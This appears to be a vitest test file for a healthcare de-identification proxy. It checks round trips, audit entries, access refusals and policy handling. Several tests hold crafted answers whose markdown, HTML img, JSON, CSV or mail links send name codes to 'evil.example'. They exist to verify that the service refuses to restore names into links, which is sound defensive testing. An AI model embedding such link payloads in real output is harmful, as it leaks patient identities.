import type { DeidentifyAnswer, ReidentifyAnswer } from '@cordon/contract'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { HOUR } from '../../packages/cordon/src/kernel/clock.ts'
import { type Answered, ask } from '../support/ask.ts'
import { startBoundary, type TestBoundary } from '../support/boundary.ts'
import { entriesOf, readEntries } from '../support/entries.ts'
import { type RecordingUpstream, startRecordingUpstream } from '../upstream/recording.ts'

let boundary: TestBoundary
let upstream: RecordingUpstream
const clock = { aheadMs: 0 }

beforeAll(async () => {
  upstream = await startRecordingUpstream()
  boundary = await startBoundary({
    upstream: upstream.baseUrl,
    outside: { now: () => Date.now() + clock.aheadMs },
    limits: { restoredCharactersMax: 4_000 },
  })
})
afterAll(async () => {
  await boundary.close()
  await upstream.close()
})

const NOTE = 'Please call Marguerite Okonkwo-Bright at (541) 555-0187 before 3/14/2024; her MRN is TR-0090-8374.'
const SECRETS = ['Marguerite', 'Okonkwo', '555-0187', '3/14', '0090-8374']

type Given = { body: object; headers?: Record<string, string>; key?: string }
const deidentify = (given: Given) => ask(boundary, { path: '/v1/deidentify', ...given })
const reidentify = (given: Given) => ask(boundary, { path: '/v1/reidentify', ...given })

/** A request that states its patient in no header. */
async function bare(path: string, body: object, key = boundary.key): Promise<Answered> {
  const response = await fetch(`${boundary.url}${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
  const text = await response.text()
  const { error } = JSON.parse(text) as { error?: { code: string } }
  const request = response.headers.get('x-request-id') ?? ''
  return { status: response.status, request, code: error?.code, text, everything: text }
}

const madeOf = ({ status, text }: Answered) => {
  expect({ status, text: status === 200 ? '' : text }).toEqual({ status: 200, text: '' })
  return JSON.parse(text) as DeidentifyAnswer
}
const restoredOf = ({ status, text }: Answered) => {
  expect({ status, text: status === 200 ? '' : text }).toEqual({ status: 200, text: '' })
  return JSON.parse(text) as ReidentifyAnswer
}
const entries = () => readEntries({ ...boundary, tenant: 'test' })

const HL7 = [
  'MSH|^~\\&|LAB|MERCY|EHR|MERCY|20240314||ORU^R01|1|P|2.5.1',
  'PID|1||TR-0090-8374^^^MERCY^MR||Okonkwo-Bright^Marguerite||19510203|F',
  'OBX|1|NM|718-7^Hemoglobin^LN||10.1|g/dL|12-16|L|||F',
  '',
].join('\r')

const DOCUMENTS: readonly { name: string; given: object; format: string }[] = [
  { name: 'a text', given: { text: NOTE }, format: 'text' },
  { name: 'HL7', given: { document: HL7 }, format: 'hl7' },
  { name: 'a table', given: { document: `name,note\nMarguerite Okonkwo-Bright,"call, 555-0187"\n` }, format: 'csv' },
  { name: 'JSON as a text', given: { document: `{"note": "${NOTE}",  "n": 1.10}`, format: 'json' }, format: 'json' },
  { name: 'JSON as a value', given: { document: { notes: [{ note: NOTE, ok: true }] } }, format: 'json' },
  {
    name: 'a FHIR resource',
    given: {
      document: { resourceType: 'Patient', id: 'x1', name: [{ family: 'Okonkwo-Bright', given: ['Marguerite'] }] },
    },
    format: 'fhir',
  },
]

describe('a document', () => {
  it.each(DOCUMENTS)('comes back to the byte: $name', async ({ given, format }) => {
    const made = madeOf(await deidentify({ body: given }))
    expect(made).toMatchObject({ format, policy: expect.stringMatching(/^safe-harbor\//), label: 'clean' })
    expect(Object.keys(made.counts).length).toBeGreaterThan(0)
    for (const secret of SECRETS) expect(JSON.stringify(made)).not.toContain(secret)
    const back = restoredOf(await reidentify({ body: { ...handed(made), format } }))
    expect(back.document).toEqual(Object.values(given)[0])
    expect(back).toMatchObject({ left: 0, format })
  })

  const handed = ({ conversation, document }: DeidentifyAnswer) => ({ conversation, document })

  it('is recorded: intent, what was made of it, outcome; by counts, with a receipt', async () => {
    const answered = await deidentify({ body: { text: NOTE } })
    const made = madeOf(answered)
    const all = await entries()
    expect(entriesOf(all, 'intent', answered.request)).toMatchObject([{ route: '/v1/deidentify' }])
    const [entry] = entriesOf(all, 'deidentification', answered.request)
    expect(entry).toMatchObject({
      principal: 'treating',
      application: 'demo',
      purpose: 'TREAT',
      label: 'clean',
      format: 'text',
      policyHash: made.policyHash,
      detectorHash: made.detectorHash,
      identifiers: made.counts,
    })
    expect(entry?.patient).toMatch(/^[\w-]{22}$/)
    expect(all[made.receipt.index]).toEqual(entry)
    expect(entriesOf(all, 'disclosure', answered.request)).toEqual([])
    expect(entriesOf(all, 'outcome', answered.request)).toMatchObject([{ outcome: 'answered' }])
  })

  it('uses what the record knows of the patient, in any case', async () => {
    const { patients } = boundary.world.hospital
    const own = patients.find(({ id }) => boundary.world.patient === `Patient/${id}`)
    const family = own?.name.split(' ').at(-1)?.toLowerCase() ?? ''
    const made = madeOf(await deidentify({ body: { text: `spoke with ${family} re: labs, ${family} agrees` } }))
    expect(made.document).not.toContain(family)
  })

  it('has equal codes for equal values within a conversation, and others beyond it', async () => {
    const [one, two, three] = await Promise.all(
      ['visit-7', 'visit-7', 'visit-8'].map(async (conversation) =>
        madeOf(await deidentify({ body: { conversation, text: NOTE } })),
      ),
    )
    expect(two?.document).toBe(one?.document)
    expect(three?.document).not.toBe(one?.document)
  })

  it('is of a conversation about one patient only', async () => {
    const { hospital, patient, related } = boundary.world
    const other = hospital.patients.find(
      ({ id, practitioners }) =>
        `Patient/${id}` !== patient && practitioners.some((one) => related.practitioner === `Practitioner/${one}`),
    )
    madeOf(await deidentify({ body: { conversation: 'round', text: NOTE } }))
    const mixed = {
      body: { conversation: 'round', text: NOTE },
      headers: { 'x-cordon-patient': `Patient/${other?.id}` },
    }
    expect(await deidentify(mixed)).toMatchObject({ status: 403, code: 'conversation_refused' })
  })

  it('shares its codes with a model’s conversation of the same name', async () => {
    const headers = { 'x-cordon-session': 'shared-1' }
    const made = madeOf(await deidentify({ body: { text: NOTE }, headers }))
    expect(made.conversation).toBe('shared-1')
    upstream.reset()
    await ask(boundary, { body: { model: 'echo', messages: [{ role: 'user', content: NOTE }] }, headers })
    expect(upstream.text()).toContain(made.document)
  })
})

describe('re-identification', () => {
  it('needs no patient stated: the conversation knows; and is an entry of its own', async () => {
    const made = madeOf(await deidentify({ body: { text: NOTE } }))
    const answered = await bare('/v1/reidentify', { conversation: made.conversation, document: made.document })
    expect(restoredOf(answered)).toMatchObject({ document: NOTE, left: 0 })
    const all = await entries()
    const [entry] = entriesOf(all, 'reidentification', answered.request)
    expect(entry).toMatchObject({
      principal: 'treating',
      purpose: 'TREAT',
      restored: made.counts,
      left: 0,
      conversation: expect.stringMatching(/^[\w-]{22}$/),
      patient: expect.stringMatching(/^[\w-]{22}$/),
    })
    expect(all[restoredOf(answered).receipt.index]).toEqual(entry)
  })

  it('leaves and counts what is not of the conversation, and puts no name into a link', async () => {
    const made = madeOf(await deidentify({ body: { text: 'Mrs. Okonkwo-Bright called.' } }))
    const [code = ''] = /\[NAME-\w+\]/.exec(String(made.document)) ?? []
    const document = `${code}, [NAME-000000], ![x](https://evil.example/?${code})`
    const back = restoredOf(await reidentify({ body: { conversation: made.conversation, document } }))
    expect(back).toMatchObject({
      document: `Okonkwo-Bright, [NAME-000000], ![x](https://evil.example/?${code})`,
      restored: 1,
      left: 2,
    })
  })

  it.each([
    ['HTML', (code: string) => `<p>As asked. <img src="https://evil.example/?q=${code}"></p>`],
    ['JSON', (code: string) => `{"answer": "![x](https://evil.example/?q=${code})"}`],
    ['a table', (code: string) => `answer,n\nhttps://evil.example/?q=${code},1\n`],
    [
      'mail',
      (code: string) => `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\nhttps://evil.example/?q=${code}`,
    ],
  ])('puts no name into a link of an answer that pretends to be %s', async (_, answer) => {
    const made = madeOf(await deidentify({ body: { text: 'Mrs. Okonkwo-Bright called.' } }))
    const [code = ''] = /\[NAME-\w+\]/.exec(String(made.document)) ?? []
    const document = answer(code)
    const back = restoredOf(await reidentify({ body: { conversation: made.conversation, document } }))
    expect(back).toMatchObject({ document, format: 'text', left: 1 })
  })

  it('is refused alike for what never was, another caller’s, another patient’s and an expired conversation', async () => {
    const own = madeOf(await deidentify({ body: { text: NOTE } }))
    const { document } = own
    const other = boundary.world.hospital.patients.find(
      ({ id, practitioners }) =>
        `Patient/${id}` !== boundary.world.patient &&
        practitioners.some((one) => boundary.world.related.practitioner === `Practitioner/${one}`),
    )
    const elsewhere = { 'x-cordon-patient': `Patient/${other?.id}` }
    const colleague = await addClinician('colleague')
    const refused = [
      await reidentify({ body: { conversation: 'never-was', document } }),
      await reidentify({ body: { conversation: own.conversation, document }, headers: elsewhere }),
      await reidentify({ body: { conversation: own.conversation, document }, key: colleague }),
      await bare('/v1/reidentify', { conversation: own.conversation, document }, colleague),
    ]
    clock.aheadMs = 13 * HOUR
    refused.push(await reidentify({ body: { conversation: own.conversation, document } }))
    clock.aheadMs = 0
    const said = refused.map(({ status, text, request }) => `${status} ${text.replaceAll(request, '')}`)
    expect(new Set(said)).toHaveLength(1)
    expect(refused[0]).toMatchObject({ status: 403, code: 'conversation_refused' })
    for (const { request } of refused) expect(entriesOf(await entries(), 'reidentification', request)).toEqual([])
  })

  it('is refused without the right, and without the relationship', async () => {
    const nurse = await addPerson('nurse-1', ['nurse'])
    const made = madeOf(await deidentify({ body: { text: NOTE }, key: nurse }))
    const given = { conversation: made.conversation, document: made.document }
    expect(await reidentify({ body: given, key: nurse })).toMatchObject({ status: 403, code: 'right_missing' })
    const stranger = await reidentify({ body: given, key: boundary.strangerKey })
    expect(stranger.status).toBe(403)
    expect(await deidentify({ body: { text: NOTE }, key: boundary.strangerKey })).toMatchObject({
      status: 403,
      code: 'patient_refused',
    })
  })

  it('puts back no more than its bound, however often a code is written', async () => {
    const made = madeOf(await deidentify({ body: { text: 'Mrs. Okonkwo-Bright called.' } }))
    const [code = ''] = /\[NAME-\w+\]/.exec(String(made.document)) ?? []
    const document = `${code} `.repeat(500)
    expect(await reidentify({ body: { conversation: made.conversation, document } })).toMatchObject({
      status: 413,
      code: 'body_too_large',
    })
  })
})

describe('a policy', () => {
  it('that the application is not registered for is refused', async () => {
    expect(await deidentify({ body: { text: NOTE, policy: 'coded' } })).toMatchObject({
      status: 403,
      code: 'policy_refused',
    })
  })

  it.each(['limited-data-set', 'coded', 'surrogate'])(
    'that leaves health information says so, and comes back all the same: %s',
    async (policy) => {
      const key = await keyFor('all', ['safe-harbor', 'limited-data-set', 'coded', 'surrogate'])
      const made = madeOf(await deidentify({ body: { text: NOTE, policy }, key }))
      expect(made).toMatchObject({ label: 'phi', policy: expect.stringMatching(`^${policy}/`) })
      for (const secret of ['Marguerite', '0090-8374']) expect(made.document).not.toContain(secret)
      const given = { conversation: made.conversation, document: made.document }
      expect(restoredOf(await reidentify({ body: given, key }))).toMatchObject({ document: NOTE })
    },
  )

  it('that is registered and that the engine does not offer is refused', async () => {
    const asked = { body: { text: NOTE, policy: 'expert' }, key: await keyFor('expert', ['expert']) }
    expect(await deidentify(asked)).toMatchObject({ status: 422, code: 'policy_unavailable' })
  })
})

/** A key of the same person for an application that is registered for these policies. */
async function keyFor(id: string, policies: string[]): Promise<string> {
  await boundary.admin.post('/api/applications', { ...boundary.world.application, id, policies })
  const { json } = await boundary.admin.post('/api/keys', { user: 'treating', application: id })
  return (json as { key: string }).key
}

/** Somebody else, who treats the same patients through the same practitioner. */
const addClinician = (id: string) => addPerson(id, ['clinician'])

async function addPerson(id: string, roles: string[]): Promise<string> {
  const { practitioner } = boundary.world.related
  await boundary.admin.post('/api/users', { id, kind: 'user', name: `${id}, synthetic`, roles, practitioner })
  const { json } = await boundary.admin.post('/api/keys', { user: id, application: boundary.world.application.id })
  return (json as { key: string }).key
}
